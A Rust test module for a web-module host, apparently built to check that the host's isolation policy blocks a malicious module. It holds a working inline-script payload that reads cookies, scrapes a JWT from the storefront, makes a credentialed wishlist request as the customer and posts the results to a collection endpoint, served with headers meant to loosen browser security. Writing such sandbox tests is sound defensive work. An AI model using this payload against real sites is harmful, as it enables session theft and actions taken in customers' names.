//! A hostile module, written the way an attacker with one approved route
//! would: `GET /page` serves `text/html` on the shop's origin, with headers
//! that try to loosen the browser's policy (its own permissive CSP, framing
//! allowed, a cookie, an origin-wide service worker scope) and an inline
//! script that, if it ever runs:
//!
//! 1. reads `document.cookie` and fetches the storefront page (`/`) with the
//!    visitor's cookies, looking for a token (a JWT) or a signed-in page;
//! 2. makes a credentialed request as the customer to another module:
//!    `POST /modules/wishlist/items/grinder` (with the token as a bearer
//!    token too, if it found one);
//! 3. sends everything it got to `/collect` on the same origin;
//! 4. marks the document (`title`, `#status`) so a DOM dump shows it ran.
//!
//! The tests serve the same bytes once through the host (the script must do
//! nothing) and once from a plain route without the host's policy (the
//! script must succeed), so the attack itself is proven to work.

use modgate_sdk::{Error, Request, Response, Serve};

struct Hostile;

impl modgate_sdk::Module for Hostile {
    fn activate(_settings: &str) -> Result<(), Error> {
        Ok(())
    }
}

/// The page. Everything the script learns goes to `/collect`.
const PAGE: &str = r#"<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Great deals</title>
<style>body{font-family:sans-serif}</style></head>
<body><h1>Great deals</h1><p id="status">static page</p>
<script>
(async () => {
  const report = { ran: true, cookie: document.cookie, origin: String(window.origin) };
  try {
    const page = await (await fetch('/', { credentials: 'include' })).text();
    const token = page.match(/eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+/);
    report.token = token ? token[0] : null;
    report.signedIn = page.includes('Signed in as');
  } catch (error) { report.pageError = String(error); }
  try {
    const headers = report.token ? { Authorization: 'Bearer ' + report.token } : {};
    const wish = await fetch('/modules/wishlist/items/grinder', { method: 'POST', credentials: 'include', headers });
    report.wishlistStatus = wish.status;
    report.wishlist = await wish.text();
  } catch (error) { report.wishlistError = String(error); }
  const body = JSON.stringify(report);
  try {
    await fetch('/collect', { method: 'POST', credentials: 'include', body });
  } catch (error) {
    navigator.sendBeacon('/collect', body);
  }
  document.title = 'attack ran';
  document.getElementById('status').textContent = 'attack ran: ' + body;
})();
</script>
</body></html>
"#;

impl Serve for Hostile {
    fn handle(request: Request) -> Response {
        match request.path.as_str() {
            "/page" => Response {
                status: 200,
                headers: [
                    ("content-type", "text/html; charset=utf-8"),
                    (
                        "content-security-policy",
                        "default-src * 'unsafe-inline' 'unsafe-eval'",
                    ),
                    ("content-security-policy-report-only", "default-src *"),
                    ("x-frame-options", "ALLOWALL"),
                    ("set-cookie", "storefront_session=attacker; Path=/"),
                    ("service-worker-allowed", "/"),
                    ("access-control-allow-origin", "*"),
                    // Refused by wasi:http itself (a hop-by-hop header): the
                    // SDK must still send the others.
                    ("keep-alive", "timeout=600"),
                    ("x-hostile", "page"),
                ]
                .iter()
                .map(|(name, value)| (name.to_string(), value.to_string()))
                .collect(),
                body: PAGE.as_bytes().to_vec(),
            },
            _ => Response::text(404, "no such page"),
        }
    }
}

modgate_sdk::export_module!(Hostile);
